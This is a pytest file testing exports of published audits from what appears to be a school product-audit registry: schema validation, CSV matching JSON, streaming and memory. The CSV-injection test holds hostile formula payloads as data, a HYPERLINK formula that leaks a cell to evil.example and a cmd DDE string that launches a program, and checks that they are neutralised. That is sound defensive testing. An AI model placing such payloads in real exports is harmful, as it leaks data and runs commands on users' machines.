"""Exports of published audits: JSON valid against the published schema (all three scopes), CSV
columns and rows equal to the JSON, CSV injection neutralised, responses streamed, memory flat."""

from __future__ import annotations

import csv
import datetime as dt
import gc
import io
import json
import re
import tracemalloc
from pathlib import Path

import pytest
import sqlalchemy as sa
from jsonschema import Draft202012Validator
from registry_helpers import publish, reviewed_audit, school_id, seed_products, seed_publications, user

from app.extensions import db
from app.models import Publication
from app.registry import services as registry

SCHEMA_PATH = Path(__file__).resolve().parents[1] / "app" / "static" / "schemas" / "published-audits-2.0.schema.json"
DATE_TIME_Z = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$")
HIGH_OR_WORSE = {"high", "critical", "prohibited"}


@pytest.fixture(scope="module")
def validator():
    schema = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    assert schema["$id"] == registry.EXPORT_SCHEMA
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


def _published(app, accounts) -> dict[str, int]:
    """Real audits taken through review and published (one with the school's name, one with a
    Chinese product name), plus seeded ones of a vendor without a country."""
    with app.app_context():
        school, other, reviewer = user(accounts["school"]), user(accounts["other_school"]), user(accounts["reviewer"])
        a1 = reviewed_audit(school, reviewer, {"product_name": "Export Camera", "vendor_name": "Export Vision Ltd"})
        a2 = reviewed_audit(other, reviewer, {"product_name": "export-camera", "vendor_name": "EXPORT VISION",
                                              "jurisdiction": "CN", "planned_date": "2025-02-10"})
        b = reviewed_audit(school, reviewer, {"product_name": "智慧课堂 考勤", "vendor_name": "某某科技有限公司",
                                              "product_kind": "face_gate", "product_version": "v2 «beta»"})
        publish(a1, school, show_school_name=True)
        publish(a2, other)
        publish(b, school)
        c = registry.find_or_create_product(registry.find_or_create_vendor("No Country Co"), "Seeded Thing")
        seed_publications([c.id], 3, organisation_id=school_id(), seed=7)
        db.session.commit()
        return {"a": a1.product_id, "b": b.product_id, "c": c.id}


def _check(validator, document: dict) -> None:
    errors = sorted(validator.iter_errors(document), key=lambda e: list(e.absolute_path))
    assert not errors, [f"{list(e.absolute_path)}: {e.message}" for e in errors]
    assert DATE_TIME_Z.match(document["generated_at"])
    for record in document["audits"]:
        assert DATE_TIME_Z.match(record["published_at"]), record["published_at"]
        dt.datetime.fromisoformat(record["published_at"].replace("Z", "+00:00"))


def test_json_exports_validate_against_the_schema(app, accounts, anon_client, validator):
    ids = _published(app, accounts)
    a, b, c = ids["a"], ids["b"], ids["c"]
    for url, scope, count in [
        (f"/products/{a}/export.json", {"kind": "product", "products": [a]}, 2),
        (f"/compare/export.json?p={b}&p={a}&p={c}", {"kind": "comparison", "products": [b, a, c]}, 6),
        ("/published/export.json", {"kind": "all", "products": None}, 6),
    ]:
        response = anon_client.get(url)
        assert response.status_code == 200 and response.mimetype == "application/json", url
        document = json.loads(response.data.decode("utf-8"))
        _check(validator, document)
        assert document["$schema"] == registry.EXPORT_SCHEMA and document["schema_version"] == "2.0"
        assert document["scope"] == scope, url
        assert len(document["audits"]) == count, url
    everything = anon_client.get("/published/export.json").json["audits"]
    names = {r["product"]["name"] for r in everything}
    assert names == {"Export Camera", "智慧课堂 考勤", "Seeded Thing"}
    assert {r["school"]["name"] for r in everything} == {"Test School", None}
    assert {r["product"]["vendor_country"] for r in everything} == {"cn", None}
    chinese = next(r for r in everything if r["product"]["name"] == "智慧课堂 考勤")
    assert chinese["product_version"] == "v2 «beta»" and chinese["product"]["category"] == "face_gate"


def test_an_empty_export_is_valid(app, anon_client, validator):
    document = json.loads(anon_client.get("/published/export.json").data)
    _check(validator, document)
    assert document["audits"] == []
    text = anon_client.get("/published/export.csv").text
    assert text.startswith("\ufeff")  # byte order mark: spreadsheet programs read the Chinese names right
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows == [list(registry.CSV_COLUMNS)]


def test_the_validator_catches_a_bad_record(app, accounts, anon_client, validator):
    """The schema check above can fail: a record with a report id, a full date or an extra key does not pass."""
    _published(app, accounts)
    document = anon_client.get("/published/export.json").json
    for change in ({"public_id": "EA-ABCDEFGHIJ"}, {"deployment_month": "2026-09-01"}, {"report_id": "EA-X"},
                   {"school": {"kind": "primary", "name": None, "email": "a@b.c"}}, {"verdict": "fine"}):
        bad = {**document, "audits": [{**document["audits"][0], **change}]}
        assert list(validator.iter_errors(bad)), change


def _csv(response) -> list[dict[str, str]]:
    text = response.data.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert tuple(header) == registry.CSV_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in reader]


def test_csv_rows_match_the_json(app, accounts, anon_client):
    ids = _published(app, accounts)
    for path in (f"/products/{ids['a']}/export", f"/compare/export{{}}?p={ids['a']}&p={ids['b']}&p={ids['c']}",
                 "/published/export"):
        if "{}" in path:
            json_url, csv_url = path.format(".json"), path.format(".csv")
        else:
            json_url, csv_url = path + ".json", path + ".csv"
        records = anon_client.get(json_url).json["audits"]
        response = anon_client.get(csv_url)
        assert response.mimetype == "text/csv"
        rows = _csv(response)
        assert len(rows) == len(records) > 0
        for row, record in zip(rows, records, strict=True):
            p = record["product"]
            assert row == {
                "public_id": record["public_id"], "product_id": str(p["id"]), "product": p["name"],
                "vendor": p["vendor"], "vendor_country": p["vendor_country"] or "", "category": p["category"],
                "product_version": record["product_version"], "jurisdiction": record["jurisdiction"],
                "deployment_month": record["deployment_month"], "verdict": record["verdict"],
                "rule_set_version": record["rule_set_version"], "school_kind": record["school"]["kind"],
                "school_name": record["school"]["name"] or "", "published_at": record["published_at"],
                "findings_count": str(len(record["findings"])),
                "high_or_worse_categories": ";".join(sorted({f["category"] for f in record["findings"]
                                                             if f["level"] in HIGH_OR_WORSE})),
                "rule_ids": ";".join(f["rule_id"] for f in record["findings"]),
            }


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1 Camera",
                                   "-2+3 Camera", "@SUM(1+1) Camera"])
def test_csv_cells_cannot_start_a_formula(app, anon_client, value):
    with app.app_context():
        vendor = registry.find_or_create_vendor(value.replace("Camera", "Vendor"))
        product = registry.find_or_create_product(vendor, value)
        other = seed_products(1)[0]
        seed_publications([product.id, other], 2, organisation_id=school_id(), school_name="=cmd|' /C calc'!A0")
        db.session.commit()
        product_id = product.id
    for url in (f"/products/{product_id}/export.csv", f"/compare/export.csv?p={product_id}&p={other}",
                "/published/export.csv"):
        row = next(r for r in _csv(anon_client.get(url)) if r["product_id"] == str(product_id))
        assert row["product"] == "'" + value, url
        assert row["vendor"] == "'" + value.replace("Camera", "Vendor"), url
        assert row["school_name"] == "'=cmd|' /C calc'!A0", url
        assert row["deployment_month"][0].isdigit()  # ordinary cells are untouched
    record = next(r for r in anon_client.get("/published/export.json").json["audits"]
                  if r["product"]["id"] == product_id)
    assert record["product"]["name"] == value  # JSON is data, not a spreadsheet: unchanged


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("a=1", "a=1"), ("", ""), ("1-2", "1-2"), ("Cam =1", "Cam =1"),
])
def test_csv_safe(value, expected):
    assert registry.csv_safe(value) == expected


def test_exports_are_streamed(app, anon_client):
    with app.app_context():
        ids = seed_products(2)
        seed_publications(ids, 1200, organisation_id=school_id(), seed=5)
        db.session.commit()
    for url in (f"/products/{ids[0]}/export.json", f"/products/{ids[0]}/export.csv",
                f"/compare/export.json?p={ids[0]}&p={ids[1]}", f"/compare/export.csv?p={ids[0]}&p={ids[1]}",
                "/published/export.json", "/published/export.csv"):
        response = anon_client.get(url, buffered=False)
        try:
            assert response.status_code == 200
            assert response.is_streamed, url
            assert "Content-Length" not in response.headers, url
            chunks = [c for c in response.response if c]
        finally:
            response.close()
        assert len(chunks) > 2, (url, len(chunks))  # written as it goes, not built first
        body = b"".join(c if isinstance(c, bytes) else c.encode() for c in chunks)
        if url.endswith("json") or ".json?" in url:
            assert len(json.loads(body)["audits"]) in (600, 1200)


def _peak_of_export() -> tuple[int, int]:
    """(records, tracemalloc peak in bytes) while consuming every export record."""
    db.session.expunge_all()
    gc.collect()
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        base = tracemalloc.get_traced_memory()[0]
        count = sum(1 for _ in registry.export_records())
        peak = tracemalloc.get_traced_memory()[1] - base
    finally:
        tracemalloc.stop()
    return count, peak


def test_export_memory_does_not_grow_with_the_number_of_audits(app):
    """export_records streams (yield_per): consuming 3,000 records peaks no higher than 600 do, give or
    take; read all at once, 3,000 would take about five times the memory of 600."""
    with app.app_context():
        ids = seed_products(20)
        seed_publications(ids, 600, organisation_id=school_id(), seed=11)
        db.session.commit()
        _peak_of_export()  # warm-up: statement compiled and cached
        small = _peak_of_export()
        seed_publications(ids, 2400, organisation_id=school_id(), seed=12)
        db.session.commit()
        large = _peak_of_export()
        assert (small[0], large[0]) == (600, 3000)
        assert large[1] < 2 * small[1], (small, large)


def test_export_memory_check_can_fail(app):
    """The measurement above does see a result read all at once (``batch`` larger than the table)."""
    with app.app_context():
        ids = seed_products(20)
        seed_publications(ids, 600, organisation_id=school_id(), seed=11)
        db.session.commit()

        def peak(batch: int) -> int:
            db.session.expunge_all()
            gc.collect()
            tracemalloc.start()
            try:
                base = tracemalloc.get_traced_memory()[0]
                sum(1 for _ in registry.export_records(batch=batch))
                return tracemalloc.get_traced_memory()[1] - base
            finally:
                tracemalloc.stop()

        peak(50)
        assert peak(5000) > 2 * peak(50)


def test_published_at_is_utc_whatever_the_database_session_zone(app, accounts):
    """PostgreSQL returns timestamps in the session's time zone; the export must still write UTC."""
    ids = _published(app, accounts)
    with app.app_context():
        if db.engine.dialect.name != "postgresql":
            pytest.skip("only PostgreSQL converts timestamps to the session's time zone")
        stored = db.session.scalar(sa.select(Publication.published_at).where(Publication.product_id == ids["a"])
                                   .limit(1))
        expected = stored.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        db.session.execute(sa.text("SET LOCAL TIME ZONE 'Asia/Shanghai'"))
        record = next(r for r in registry.export_records([ids["a"]]))
        assert record["published_at"] == expected
        db.session.rollback()
